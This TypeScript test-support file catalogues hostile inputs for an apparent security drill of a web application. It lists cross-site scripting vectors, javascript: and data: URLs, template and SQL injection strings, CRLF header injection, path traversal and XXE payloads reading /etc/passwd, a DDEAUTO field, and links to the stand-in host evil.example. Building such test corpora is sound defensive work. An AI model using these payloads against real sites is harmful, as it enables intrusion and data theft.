import { FORMULA_PAYLOADS } from "@/tests/support/formula-payloads";

/** What a payload tries. */
export type Kind =
  | "markup"
  | "address"
  | "markdown"
  | "template"
  | "direction"
  | "unseen"
  | "control"
  | "formula"
  | "header"
  | "path"
  | "xml"
  | "query"
  | "long";

export interface Payload {
  kind: Kind;
  text: string;
}

const all = (kind: Kind, texts: readonly string[]): Payload[] =>
  texts.map((text) => ({ kind, text }));

/*
 * Whatever runs calls `hostile()`, which the browser of the drill counts; whatever becomes an element
 * has `data-hostile`.
 */
const MARKUP = [
  "<script data-hostile>hostile()</script>",
  '"><script data-hostile>hostile()</script>',
  "'><script data-hostile>hostile()</script>",
  "</script><script data-hostile>hostile()</script>",
  "</title><script data-hostile>hostile()</script>",
  "</textarea><script data-hostile>hostile()</script>",
  "</style><script data-hostile>hostile()</script>",
  "</option></select><script data-hostile>hostile()</script>",
  "<!--<script data-hostile>--><img data-hostile src=x onerror=hostile()>",
  "<!-- <b data-hostile>",
  "--><b data-hostile>",
  "<![CDATA[<b data-hostile>]]>",
  "<img data-hostile src=x onerror=hostile()>",
  "<IMG data-hostile SRC=x OnErRoR=hostile()//",
  '" data-hostile onmouseover="hostile()" onfocus="hostile()" autofocus="',
  "' data-hostile onmouseover='hostile()' style='position:fixed;inset:0",
  "<svg data-hostile onload=hostile()>",
  "<svg data-hostile><script data-hostile>hostile()</script></svg>",
  '<svg data-hostile><a xlink:href="javascript:hostile()"><text y="9">a</text></a></svg>',
  "<svg data-hostile><animate onbegin=hostile() attributeName=x dur=1s>",
  '<math data-hostile><mtext><img data-hostile src=x onerror="hostile()"></mtext></math>',
  '<math data-hostile><maction actiontype="statusline" xlink:href="javascript:hostile()">a',
  "<iframe data-hostile srcdoc='<script>parent.hostile()</script>'></iframe>",
  '<iframe data-hostile src="javascript:parent.hostile()"></iframe>',
  '<object data-hostile data="javascript:hostile()"></object>',
  '<embed data-hostile src="javascript:hostile()">',
  '<base data-hostile href="https://evil.example/">',
  '<meta data-hostile http-equiv="refresh" content="0;url=javascript:hostile()">',
  '<link data-hostile rel=stylesheet href="https://evil.example/a.css">',
  "<style data-hostile>*{display:none}</style>",
  '<form data-hostile action="https://evil.example/"><input name=q autofocus onfocus=hostile()>',
  "<details data-hostile open ontoggle=hostile()>",
  "<video data-hostile><source onerror=hostile()></video>",
  "<template data-hostile><slot></template><b data-hostile>",
  "<noscript><p title='</noscript><img data-hostile src=x onerror=hostile()>'>",
  "<xmp data-hostile><plaintext data-hostile>",
  "&lt;script&gt;hostile()&lt;/script&gt;",
  "&#60;img data-hostile src=x onerror=hostile()&#62;",
  "\\u003cscript\\u003ehostile()\\u003c/script\\u003e",
  "\\x3cimg data-hostile src=x onerror=hostile()\\x3e",
  '"},"hostile":true,"x":{"',
  '\\"]);hostile();self.__next_f.push([1,\\"',
  '1:["$","script",null,{"children":"hostile()"}]',
  "$L1",
  "$undefined",
  "$$typeof",
  "$@1",
];

/** `javascript:` in twelve spellings, and others that lead nowhere good. */
const ADDRESSES = [
  "javascript:hostile()",
  "JaVaScRiPt:hostile()",
  " javascript:hostile()",
  "java\tscript:hostile()",
  "java\nscript:hostile()",
  "java\rscript:hostile()",
  "\u0001javascript:hostile()",
  "javascript\t:hostile()",
  "javascript://example.org/%0Ahostile()",
  "javascript&colon;hostile()",
  "&#106;avascript:hostile()",
  "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+hostile()//'>",
  "data:text/html,<script>parent.hostile()</script>",
  "data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaG9zdGlsZSgpPC9zY3JpcHQ+",
  "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.hostile()'/>",
  "vbscript:hostile()",
  "blob:https://example.org/hostile",
  "file:///etc/passwd",
  "//evil.example/hostile",
  "https://user:word@evil.example/hostile",
];

const MARKDOWN = [
  "[a](javascript:hostile())",
  "[a](<java\tscript:hostile()>)",
  "[a](data:text/html,<script>hostile()</script>)",
  "[a]( javascript&colon;hostile() )",
  "![a](javascript:hostile())",
  '![a"onerror="hostile()](https://evil.example/x.png)',
  '[a](https://evil.example/"onmouseover="hostile())',
  "<javascript:hostile()>",
  "[a]: javascript:hostile()\n\n[a]",
  "`<script data-hostile>hostile()</script>`",
  "```html\n<img data-hostile src=x onerror=hostile()>\n```",
  "<img data-hostile src=x onerror=hostile()>",
];

const TEMPLATES = [
  "{{constructor.constructor('hostile()')()}}",
  "{{{hostile}}}",
  "{{#each this}}{{this}}{{/each}}",
  "${hostile()}",
  "<%= hostile() %>",
  "#{hostile()}",
  "{hostile()}",
  "{count, plural, one {#} other {hostile}}",
  "<b>{name}</b>",
  "%s%n%d%x%%",
  "$& $1 $` $'",
];

const turning = (code: number) => String.fromCodePoint(code);

/** Each alone, never closed; then what it takes to turn what is around a text without any of them. */
const DIRECTION = [
  ...[0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068, 0x2069].map(
    (code) => `a${turning(code)}b1 (c)`,
  ),
  ...[0x200e, 0x200f, 0x061c].map((code) => `${turning(code)}1, 2${turning(code)}`),
  "report\u202Efdp.exe",
  "\u2069\u2069\u202C\u202C\u202Eabc",
  "\u202E".repeat(130),
  "\u2067".repeat(130),
  "שלום (3)",
  "وزارة العدل: 2024",
];

const UNSEEN = [
  "a\u200Bb\u200Cc\u200Dd\u2060e",
  "\uFEFFa\uFEFF",
  "a\u00ADb\u034Fc\u115Fd\u3164e",
  "a\u2028b\u2029c",
  "\u{E0041}\u{E007F}a\uFE0F",
  `Z${"\u0301\u0316".repeat(40)}`,
  `${"\u0E49".repeat(30)}a`,
  "\uFDFD\u{12031}\u{1242B}",
];

/** What cannot be kept. */
const CONTROLS = [
  "a\u0000b",
  "\u0000<script data-hostile>hostile()</script>",
  "a\u0007b\u0008c\u001Bd",
  "\u001B[2J\u001B]0;hostile\u0007",
  "a\u000Bb\u000Cc\u007F",
  "a\u0080b\u0085c\u009Bd",
  "a\uD800b",
  "a\uDC00b\uD83D",
  "\uFFFEa\uFFFFb",
];

const HEADERS = [
  "a\r\nSet-Cookie: hostile=1",
  "a\r\n\r\n<script data-hostile>hostile()</script>",
  "a%0d%0aLocation: https://evil.example/",
  'a"; filename="hostile.exe',
  "a\nBcc: hostile@evil.example",
];

const PATHS = [
  "../../../../etc/passwd",
  "..\\..\\windows\\win.ini",
  "/etc/passwd\u0000.pdf",
  "C:\\CON",
  "con.pdf",
  "NUL",
  "COM1.txt",
  "LPT¹.csv",
  "hostile.pdf::$DATA",
  "%2e%2e%2f",
  "~root/.ssh",
  "-rf",
];

const XML = [
  "]]>",
  '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
  "&b; &#0; &#x1F; &nbsp;",
  "</w:t></w:r><w:r><w:instrText>DDEAUTO cmd</w:instrText></w:r><w:r><w:t>",
  "</t></is></c><c><f>1+1</f></c>",
  "_x0000_ _x003D_ _x005F_x000D_",
];

const QUERIES = [
  "'; DROP TABLE person; --",
  "' OR 1=1 --",
  '" OR ""="',
  "a* NEAR(b c, 5) AND NOT ^d",
  "title:a OR {text context}:b",
  "-a + b - (c",
  '"""',
  "(a+)+$ [^]* (?<x>)",
  "\\",
  "[a-",
  "a'b\"c`d",
];

const LONG = [
  "W".repeat(110),
  `https://example.org/${"w".repeat(90)}`,
  `${"កខគឃង".repeat(20)}`,
  "ﷺ".repeat(60),
];

/** More than any field takes. */
export const TOO_LONG = `${"hostile ".repeat(12_800)}`;

const LIST: readonly Payload[] = [
  ...all("markup", MARKUP),
  ...all("address", ADDRESSES),
  ...all("markdown", MARKDOWN),
  ...all("template", TEMPLATES),
  ...all("direction", DIRECTION),
  ...all("unseen", UNSEEN),
  ...all("control", CONTROLS),
  // All forty go through the same files in tests/e2e/midterm.
  ...all(
    "formula",
    FORMULA_PAYLOADS.filter((_, place) => place % 4 === 0),
  ),
  ...all("header", HEADERS),
  ...all("path", PATHS),
  ...all("xml", XML),
  ...all("query", QUERIES),
  ...all("long", LONG),
];

/** How many of a kind are planted, where it is not all: spellings of one idea take one way through the site. */
const PLANTED: Partial<Record<Kind, number>> = {
  ...{ markup: 24, markdown: 8, template: 5, formula: 5, path: 6, query: 6 },
};

/** How many of a kind are in the short list, where it is not one. */
const FEW: Partial<Record<Kind, number>> = { direction: 6, markup: 2, control: 2, formula: 2 };

/** At most so many of a list, from all over it, the first among them. */
export const spread = <One>(list: readonly One[], most: number): One[] =>
  list.filter(
    (_, place) =>
      list.length <= most ||
      Math.floor((place * most) / list.length) !== Math.floor(((place - 1) * most) / list.length),
  );

/** All payloads, each of which stands in addresses and names of files. */
export const everyPayload = (): readonly Payload[] => LIST;

/** Those that are planted in every field; a short list has a few of each kind. */
export function payloads(short: boolean): readonly Payload[] {
  const kinds = [...new Set(LIST.map(({ kind }) => kind))];
  return kinds.flatMap((kind) => {
    const ofKind = LIST.filter((payload) => payload.kind === kind);
    return short ? ofKind.slice(0, FEW[kind] ?? 1) : spread(ofKind, PLANTED[kind] ?? ofKind.length);
  });
}
